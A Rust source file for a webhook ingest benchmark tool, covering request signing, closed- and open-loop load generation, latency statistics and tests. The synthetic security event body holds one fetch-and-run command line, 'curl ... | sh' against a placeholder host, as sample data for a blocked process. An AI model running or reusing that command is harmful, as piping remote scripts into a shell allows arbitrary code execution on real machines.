//! `haltwire bench ingest`: the ingest load generator.
//!
//! It pre-signs every request before the clock starts (signing is the sender's cost, not the
//! broker's), then either runs a **closed loop** (C keep-alive connections, each sending its
//! next request as soon as the previous one is answered) or an **open loop** (request *i* is due
//! at `t0 + i/R` whatever happened before, dispatched onto a pool of C keep-alive connections).
//! Open-loop latency is measured from the *intended* send time, so a stalled server is charged
//! for the requests that queued behind the stall (no coordinated omission).
//!
//! It speaks HTTP/1.1 through hyper's connection API directly over a tokio `TcpStream`, on a
//! single-threaded runtime: the generator is meant to be pinned to one core, and one thread
//! keeps its own overhead small and free of cross-thread wake-ups.
//!
//! Not here: starting or configuring the broker (the caller points it at a URL), choosing the
//! connection count (scripts/bench.sh sweeps it), and judging the figures.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, OnceLock};
use std::time::{Duration, Instant};

use bytes::Bytes;
use http_body_util::{BodyExt as _, Full};
use hyper::client::conn::http1::{self, SendRequest};
use hyper::header::{HeaderValue, CONTENT_TYPE, HOST};
use hyper::{Method, Request, StatusCode, Uri};
use hyper_util::rt::TokioIo;
use tokio::net::TcpStream;
use tokio::sync::{mpsc, Mutex};

use super::stats::{micros, Latencies};
use super::BenchError;
use crate::ingest::auth::standard_webhooks::{Ed25519Secret, HmacSecret};

/// Longest body the generator will pad to: the padding goes into `process.cmd_line`, and the
/// native format refuses longer strings (32 KiB characters) with a 422.
pub const MAX_BODY_BYTES: usize = 32 * 1024;

/// How the generator signs, matching the source's `auth`.
pub enum Signer {
    /// `standard-webhooks` (v1): the source's `whsec_` secret.
    Hmac(HmacSecret),
    /// `standard-webhooks-ed25519` (v1a): the sender's `whsk_` key.
    Ed25519(Ed25519Secret),
}

impl Signer {
    pub(super) fn sign(&self, msg_id: &str, timestamp: i64, body: &[u8]) -> String {
        match self {
            Signer::Hmac(secret) => secret.sign(msg_id, timestamp, body),
            Signer::Ed25519(secret) => secret.sign(msg_id, timestamp, body),
        }
    }
}

/// One bench run's parameters.
pub struct LoadSettings {
    /// Broker base URL, `http://host:port` (no TLS: the bench measures the broker, not TLS).
    pub url: String,
    /// The configured source to post to.
    pub source: String,
    pub signer: Signer,
    /// Requests whose figures are reported.
    pub events: usize,
    /// Requests sent first, the same way, and left out of the figures (caches, allocator and
    /// sled's first segments warm up here).
    pub warmup: usize,
    pub connections: usize,
    /// Open loop at this many requests per second; `None` runs the closed loop.
    pub rate: Option<f64>,
    /// Pad each body to at least this many bytes (0: the natural size, about 220 bytes).
    pub body_bytes: usize,
}

/// What a run measured.
pub struct LoadReport {
    pub rate: Option<f64>,
    pub events: usize,
    pub warmup: usize,
    pub connections: usize,
    /// Size of each request body as sent.
    pub body_bytes: usize,
    /// From the first measured request's start (closed) or intended time (open) to the last
    /// measured answer.
    pub elapsed: Duration,
    /// Latency of every measured `202`.
    pub latencies: Latencies,
    /// Measured requests that did not get a `202`, by `status_NNN` or `transport`.
    pub errors: BTreeMap<String, u64>,
    /// Open loop only: how late the generator itself released each request (its own timer
    /// error, already included in the latencies above).
    pub dispatch_lag: Option<Latencies>,
    /// CPU the generator itself used while sending, as a share of one core; near 100 % means
    /// the generator, not the server, may be what limits the figures.
    pub generator_cpu_pct: Option<f64>,
}

impl LoadReport {
    pub fn accepted(&self) -> usize {
        self.latencies.count()
    }

    pub fn error_count(&self) -> u64 {
        self.errors.values().sum()
    }

    pub fn events_per_sec(&self) -> f64 {
        let secs = self.elapsed.as_secs_f64();
        if secs > 0.0 {
            self.accepted() as f64 / secs
        } else {
            0.0
        }
    }

    fn mode(&self) -> &'static str {
        if self.rate.is_some() {
            "open"
        } else {
            "closed"
        }
    }

    /// The machine-readable result: one JSON object, printed as one line.
    pub fn to_json(&self) -> serde_json::Value {
        let l = &self.latencies;
        serde_json::json!({
            "mode": self.mode(),
            "rate": self.rate,
            "connections": self.connections,
            "events": self.events,
            "warmup": self.warmup,
            "body_bytes": self.body_bytes,
            "elapsed_s": self.elapsed.as_secs_f64(),
            "events_per_sec": self.events_per_sec().round() as u64,
            "p50_us": l.percentile_us(0.50),
            "p90_us": l.percentile_us(0.90),
            "p99_us": l.percentile_us(0.99),
            "max_us": l.max_us(),
            "errors": self.error_count(),
            "errors_by_kind": self.errors,
            "dispatch_lag_p99_us": self.dispatch_lag.as_ref().map(|d| d.percentile_us(0.99)),
            "generator_cpu_pct": self.generator_cpu_pct.map(|p| p.round()),
        })
    }

    /// A few lines for people.
    pub fn summary(&self) -> String {
        let l = &self.latencies;
        let mode = match self.rate {
            Some(rate) => format!("open loop at {rate} events/s"),
            None => "closed loop".to_string(),
        };
        let mut out = format!(
            "bench ingest: {mode}, {} connections, {} events (+{} warm-up), {}-byte bodies\n\
             throughput  {:.0} events/s over {:.2} s\n\
             latency     p50 {} us  p90 {} us  p99 {} us  max {} us\n\
             errors      {}",
            self.connections,
            self.events,
            self.warmup,
            self.body_bytes,
            self.events_per_sec(),
            self.elapsed.as_secs_f64(),
            l.percentile_us(0.50),
            l.percentile_us(0.90),
            l.percentile_us(0.99),
            l.max_us(),
            self.error_count(),
        );
        for (kind, count) in &self.errors {
            out.push_str(&format!("\n  {kind}: {count}"));
        }
        if let Some(cpu) = self.generator_cpu_pct {
            out.push_str(&format!("\ngenerator   {cpu:.0} % of one core while sending"));
        }
        if let Some(lag) = &self.dispatch_lag {
            out.push_str(&format!(
                "\ngenerator   dispatch lag p50 {} us  p99 {} us (included in the latencies)",
                lag.percentile_us(0.50),
                lag.percentile_us(0.99)
            ));
        }
        out
    }
}

/// Signs every request, connects, runs the loop and returns the figures. Blocks the calling
/// thread; builds its own single-threaded runtime.
pub fn run(settings: LoadSettings) -> Result<LoadReport, BenchError> {
    check_settings(&settings)?;
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .map_err(|source| BenchError::Io { context: "building the runtime".into(), source })?;
    runtime.block_on(run_async(settings))
}

fn check_settings(settings: &LoadSettings) -> Result<(), BenchError> {
    if settings.events == 0 || settings.connections == 0 {
        return Err(BenchError::Settings("--events and --connections must be at least 1".into()));
    }
    if settings.body_bytes > MAX_BODY_BYTES {
        return Err(BenchError::Settings(format!("--body-bytes must be at most {MAX_BODY_BYTES}")));
    }
    if let Some(rate) = settings.rate {
        if !(rate.is_finite() && rate > 0.0) {
            return Err(BenchError::Settings("--rate must be a positive number".into()));
        }
        // Every request carries the timestamp taken at the start; the broker refuses it 300 s
        // later, so a schedule must end well inside that window.
        let seconds = (settings.events + settings.warmup) as f64 / rate;
        if seconds > 240.0 {
            return Err(BenchError::Settings(format!(
                "the schedule would take {seconds:.0} s; keep it under 240 s so every signed \
                 timestamp stays within the broker's 300 s window"
            )));
        }
    }
    Ok(())
}

async fn run_async(settings: LoadSettings) -> Result<LoadReport, BenchError> {
    let target = Target::resolve(&settings.url, &settings.source).await?;
    let plan = Arc::new(Plan::sign(target, &settings));
    let mut senders = Vec::with_capacity(settings.connections);
    for _ in 0..settings.connections {
        senders.push(connect(plan.target.addr).await?);
    }
    let cpu_before = process_cpu();
    let sending = Instant::now();
    let (tally, elapsed) = match settings.rate {
        None => closed_loop(&plan, senders).await,
        Some(rate) => open_loop(&plan, senders, rate).await,
    };
    let generator_cpu_pct = cpu_before
        .zip(process_cpu())
        .map(|(before, after)| 100.0 * (after - before).as_secs_f64() / sending.elapsed().as_secs_f64());
    Ok(LoadReport {
        rate: settings.rate,
        events: settings.events,
        warmup: settings.warmup,
        connections: settings.connections,
        body_bytes: plan.requests.first().map_or(0, |r| r.body.len()),
        elapsed,
        latencies: Latencies::from_micros(tally.latencies_us),
        errors: tally.errors,
        dispatch_lag: settings.rate.map(|_| Latencies::from_micros(tally.lag_us)),
        generator_cpu_pct,
    })
}

/// User plus system CPU time of this process so far, from `/proc/self/stat` (Linux only; `None`
/// elsewhere). The kernel reports it in USER_HZ ticks, which Linux fixes at 100 per second.
pub(super) fn process_cpu() -> Option<Duration> {
    let stat = std::fs::read_to_string("/proc/self/stat").ok()?;
    // Fields after the command name, which is in parentheses and may itself contain spaces.
    let fields: Vec<&str> = stat.rsplit_once(')')?.1.split_whitespace().collect();
    let ticks: u64 = fields.get(11)?.parse::<u64>().ok()? + fields.get(12)?.parse::<u64>().ok()?;
    Some(Duration::from_millis(ticks * 10))
}

/// Where requests go: the socket address, and what goes in the request line and `Host`.
struct Target {
    addr: SocketAddr,
    host: HeaderValue,
    path: Uri,
}

impl Target {
    async fn resolve(url: &str, source: &str) -> Result<Target, BenchError> {
        let bad = |reason: &str| BenchError::Url { url: url.to_string(), reason: reason.to_string() };
        let uri: Uri = url.parse().map_err(|_| bad("not a URL"))?;
        if uri.scheme_str() != Some("http") {
            return Err(bad("only http:// is supported"));
        }
        let authority = uri.authority().ok_or_else(|| bad("no host"))?;
        let host_port = format!("{}:{}", authority.host(), authority.port_u16().unwrap_or(80));
        let addr = tokio::net::lookup_host(&host_port)
            .await
            .map_err(|source| BenchError::Resolve { host: host_port.clone(), source })?
            .next()
            .ok_or_else(|| bad("host has no address"))?;
        let path = format!("{}/v1/ingest/{source}", uri.path().trim_end_matches('/'));
        Ok(Target {
            addr,
            host: HeaderValue::from_str(authority.as_str()).map_err(|_| bad("host is not a header value"))?,
            path: path.parse().map_err(|_| bad("source name does not fit in a path"))?,
        })
    }
}

/// Everything needed to send request *i*, computed before the clock starts.
struct Plan {
    target: Target,
    /// One timestamp for the whole run, taken just before signing.
    timestamp: HeaderValue,
    /// Warm-up requests first, then the measured ones.
    requests: Vec<SignedRequest>,
    warmup: usize,
}

struct SignedRequest {
    id: HeaderValue,
    signature: HeaderValue,
    body: Bytes,
}

impl Plan {
    fn sign(target: Target, settings: &LoadSettings) -> Plan {
        // A run id keeps message ids and vendor ids distinct across runs against one data
        // directory, so no request of a later run is answered as a duplicate.
        let run = uuid::Uuid::now_v7().simple().to_string();
        let timestamp = time::OffsetDateTime::now_utc().unix_timestamp();
        let total = settings.warmup + settings.events;
        let requests = (0..total)
            .map(|i| {
                let id = format!("msg_bench_{run}_{i:08}");
                let body = event_body(&format!("bench-{run}-{i:08}"), settings.body_bytes);
                let signature = settings.signer.sign(&id, timestamp, &body);
                SignedRequest {
                    // Ids and base64 signatures are plain ASCII, always valid header values.
                    id: HeaderValue::from_str(&id).expect("ASCII message id"),
                    signature: HeaderValue::from_str(&signature).expect("ASCII signature"),
                    body: Bytes::from(body),
                }
            })
            .collect();
        Plan { target, timestamp: HeaderValue::from(timestamp), requests, warmup: settings.warmup }
    }

    fn request(&self, index: usize) -> Request<Full<Bytes>> {
        let signed = &self.requests[index];
        let mut request = Request::new(Full::new(signed.body.clone()));
        *request.method_mut() = Method::POST;
        *request.uri_mut() = self.target.path.clone();
        let headers = request.headers_mut();
        headers.insert(HOST, self.target.host.clone());
        headers.insert(CONTENT_TYPE, HeaderValue::from_static("application/json"));
        headers.insert("webhook-id", signed.id.clone());
        headers.insert("webhook-timestamp", self.timestamp.clone());
        headers.insert("webhook-signature", signed.signature.clone());
        request
    }

    fn is_measured(&self, index: usize) -> bool {
        index >= self.warmup
    }
}

/// A native (`generic`) event like the test suite's sample, unique by `vendor_id`, with
/// `process.cmd_line` padded so the whole body is at least `body_bytes` long.
pub(super) fn event_body(marker: &str, body_bytes: usize) -> Vec<u8> {
    let render = |cmd_line: &str| {
        format!(
            r#"{{"host":"bench-1","disposition":"blocked","severity":"high","vendor_id":"{marker}","process":{{"pid":4242,"cmd_line":"{cmd_line}","cwd":"/tmp"}}}}"#
        )
        .into_bytes()
    };
    let command = "curl -fsSL https://x.example/i.sh | sh";
    let natural = render(command);
    if natural.len() >= body_bytes {
        return natural;
    }
    let padding = "x".repeat(body_bytes - natural.len() - 1);
    render(&format!("{command} {padding}"))
}

type Sender = SendRequest<Full<Bytes>>;

async fn connect(addr: SocketAddr) -> Result<Sender, BenchError> {
    let stream = TcpStream::connect(addr).await.map_err(|source| BenchError::Connect { addr, source })?;
    // Small requests must leave at once, not wait for Nagle to coalesce them.
    stream.set_nodelay(true).map_err(|source| BenchError::Connect { addr, source })?;
    let (sender, connection) = http1::handshake(TokioIo::new(stream))
        .await
        .map_err(|source| BenchError::Handshake { addr, source })?;
    tokio::spawn(async move {
        // Ends when the sender is dropped or the server closes; a failure surfaces to the
        // sender as a transport error on its next request.
        let _ = connection.await;
    });
    Ok(sender)
}

/// How one request ended.
enum Answer {
    Accepted,
    Refused(StatusCode),
    /// The connection failed; the worker reconnects.
    Transport,
}

/// Sends request `index` and reads the whole answer (so the connection can be reused, and so
/// the latency covers the body as a real sender would see it).
async fn send(sender: &mut Sender, plan: &Plan, index: usize) -> Answer {
    if sender.ready().await.is_err() {
        return Answer::Transport;
    }
    let Ok(response) = sender.send_request(plan.request(index)).await else {
        return Answer::Transport;
    };
    let status = response.status();
    if response.into_body().collect().await.is_err() {
        return Answer::Transport;
    }
    if status == StatusCode::ACCEPTED {
        Answer::Accepted
    } else {
        Answer::Refused(status)
    }
}

/// One worker's measurements; merged at the end.
#[derive(Default)]
struct Tally {
    latencies_us: Vec<u64>,
    lag_us: Vec<u64>,
    errors: BTreeMap<String, u64>,
    last_done: Option<Instant>,
}

impl Tally {
    fn record(&mut self, answer: &Answer, latency: Duration, done: Instant) {
        match answer {
            Answer::Accepted => self.latencies_us.push(micros(latency)),
            Answer::Refused(status) => {
                *self.errors.entry(format!("status_{}", status.as_u16())).or_default() += 1
            }
            Answer::Transport => *self.errors.entry("transport".into()).or_default() += 1,
        }
        self.last_done = self.last_done.max(Some(done));
    }

    fn merge(tallies: Vec<Tally>) -> Tally {
        let mut all = Tally::default();
        for tally in tallies {
            all.latencies_us.extend(tally.latencies_us);
            all.lag_us.extend(tally.lag_us);
            for (kind, count) in tally.errors {
                *all.errors.entry(kind).or_default() += count;
            }
            all.last_done = all.last_done.max(tally.last_done);
        }
        all
    }

    /// Requests that never got an answer (every connection failed) are errors too.
    fn count_unsent(&mut self, measured: usize) {
        let answered = self.latencies_us.len() as u64 + self.errors.values().sum::<u64>();
        let unsent = (measured as u64).saturating_sub(answered);
        if unsent > 0 {
            *self.errors.entry("unsent".into()).or_default() += unsent;
        }
    }
}

/// After a transport error: a fresh connection, or `None` to retire the worker.
async fn replace(sender: Sender, addr: SocketAddr) -> Option<Sender> {
    drop(sender);
    connect(addr).await.ok()
}

/// Closed loop: each connection sends its next request as soon as the previous is answered.
async fn closed_loop(plan: &Arc<Plan>, senders: Vec<Sender>) -> (Tally, Duration) {
    let next = Arc::new(AtomicUsize::new(0));
    let measure_from = Arc::new(OnceLock::new());
    let workers: Vec<_> = senders
        .into_iter()
        .map(|sender| tokio::spawn(closed_worker(plan.clone(), next.clone(), measure_from.clone(), sender)))
        .collect();
    let mut tally = join_all(workers).await;
    let elapsed = elapsed_between(measure_from.get().copied(), tally.last_done);
    tally.count_unsent(plan.requests.len() - plan.warmup);
    (tally, elapsed)
}

async fn closed_worker(
    plan: Arc<Plan>,
    next: Arc<AtomicUsize>,
    measure_from: Arc<OnceLock<Instant>>,
    mut sender: Sender,
) -> Tally {
    let mut tally = Tally::default();
    loop {
        let index = next.fetch_add(1, Ordering::Relaxed);
        if index >= plan.requests.len() {
            return tally;
        }
        let started = Instant::now();
        if index == plan.warmup {
            // Indexes are handed out in order, so this is the first measured request.
            let _ = measure_from.set(started);
        }
        let answer = send(&mut sender, &plan, index).await;
        let done = Instant::now();
        if plan.is_measured(index) {
            tally.record(&answer, done - started, done);
        }
        if matches!(answer, Answer::Transport) {
            match replace(sender, plan.target.addr).await {
                Some(fresh) => sender = fresh,
                None => return tally,
            }
        }
    }
}

/// One scheduled request: its index and when it was due.
struct Job {
    index: usize,
    intended: Instant,
    /// When the dispatcher actually released it (≥ `intended` by the timer's error).
    released: Instant,
}

/// Open loop: the dispatcher releases request *i* at `t0 + i/rate`; the first idle connection
/// takes it. Latency runs from `intended`, so time spent waiting for a free
/// connection counts against the server.
async fn open_loop(plan: &Arc<Plan>, senders: Vec<Sender>, rate: f64) -> (Tally, Duration) {
    let (jobs_tx, jobs_rx) = mpsc::unbounded_channel();
    let jobs = Arc::new(Mutex::new(jobs_rx));
    // A moment for the workers to reach their first `recv` before request 0 is due.
    let t0 = Instant::now() + Duration::from_millis(20);
    let count = plan.requests.len();
    let dispatcher = std::thread::spawn(move || dispatch(&jobs_tx, count, rate, t0));
    let workers: Vec<_> = senders
        .into_iter()
        .map(|sender| tokio::spawn(open_worker(plan.clone(), jobs.clone(), sender)))
        .collect();
    drop(jobs);
    let mut tally = join_all(workers).await;
    let _ = dispatcher.join();
    tally.count_unsent(count - plan.warmup);
    let elapsed = elapsed_between(Some(t0 + interval(plan.warmup, rate)), tally.last_done);
    (tally, elapsed)
}

fn interval(index: usize, rate: f64) -> Duration {
    Duration::from_secs_f64(index as f64 / rate)
}

/// How long before each intended time the dispatcher stops sleeping and spins: more than the
/// kernel's default 50 µs timer slack plus the wake-up.
const SPIN_FOR: Duration = Duration::from_micros(100);

/// Releases each job at its intended time. Stops early if every worker is gone.
///
/// A plain thread, not a tokio timer (1 ms resolution, which would add up to 1 ms of the
/// generator's own error to every latency). It sleeps until just before each intended time and
/// spins the rest: a thread that mostly sleeps is woken promptly by the scheduler, where one
/// that spins all the time competes with the runtime thread on the same core and gets
/// descheduled for whole time slices.
fn dispatch(jobs: &mpsc::UnboundedSender<Job>, count: usize, rate: f64, t0: Instant) {
    for index in 0..count {
        let intended = t0 + interval(index, rate);
        if let Some(wait) = intended.checked_duration_since(Instant::now()) {
            if wait > SPIN_FOR {
                std::thread::sleep(wait - SPIN_FOR);
            }
        }
        while Instant::now() < intended {
            std::hint::spin_loop();
        }
        if jobs.send(Job { index, intended, released: Instant::now() }).is_err() {
            return;
        }
    }
}

async fn open_worker(
    plan: Arc<Plan>,
    jobs: Arc<Mutex<mpsc::UnboundedReceiver<Job>>>,
    mut sender: Sender,
) -> Tally {
    let mut tally = Tally::default();
    loop {
        // The lock is held only while waiting for the next job, so idle workers queue for work
        // in turn and a busy one never holds up the others.
        let Some(job) = jobs.lock().await.recv().await else {
            return tally;
        };
        let answer = send(&mut sender, &plan, job.index).await;
        let done = Instant::now();
        if plan.is_measured(job.index) {
            tally.record(&answer, done - job.intended, done);
            tally.lag_us.push(micros(job.released - job.intended));
        }
        if matches!(answer, Answer::Transport) {
            match replace(sender, plan.target.addr).await {
                Some(fresh) => sender = fresh,
                None => return tally,
            }
        }
    }
}

async fn join_all(workers: Vec<tokio::task::JoinHandle<Tally>>) -> Tally {
    let mut tallies = Vec::with_capacity(workers.len());
    for worker in workers {
        // A worker only ends by returning its tally; a panic would be a bug in this module.
        if let Ok(tally) = worker.await {
            tallies.push(tally);
        }
    }
    Tally::merge(tallies)
}

fn elapsed_between(from: Option<Instant>, to: Option<Instant>) -> Duration {
    match (from, to) {
        (Some(from), Some(to)) => to.saturating_duration_since(from),
        _ => Duration::ZERO,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decode::Decoder;

    #[test]
    fn bodies_are_valid_native_events_padded_to_the_requested_size() {
        let natural = event_body("bench-x-00000001", 0);
        assert!(Decoder::Generic.decode(&natural).is_ok());
        for size in [natural.len() + 1, 1024, 4096, MAX_BODY_BYTES] {
            let body = event_body("bench-x-00000001", size);
            assert_eq!(body.len(), size);
            assert!(Decoder::Generic.decode(&body).is_ok(), "{size}");
        }
    }

    #[cfg(target_os = "linux")]
    #[test]
    fn own_cpu_time_is_readable() {
        assert!(process_cpu().is_some());
    }

    #[test]
    fn unanswered_requests_are_counted_as_unsent() {
        let mut tally = Tally::default();
        tally.record(&Answer::Accepted, Duration::from_micros(5), Instant::now());
        tally.record(&Answer::Refused(StatusCode::TOO_MANY_REQUESTS), Duration::ZERO, Instant::now());
        tally.count_unsent(5);
        assert_eq!(tally.errors.get("status_429"), Some(&1));
        assert_eq!(tally.errors.get("unsent"), Some(&3));
    }
}
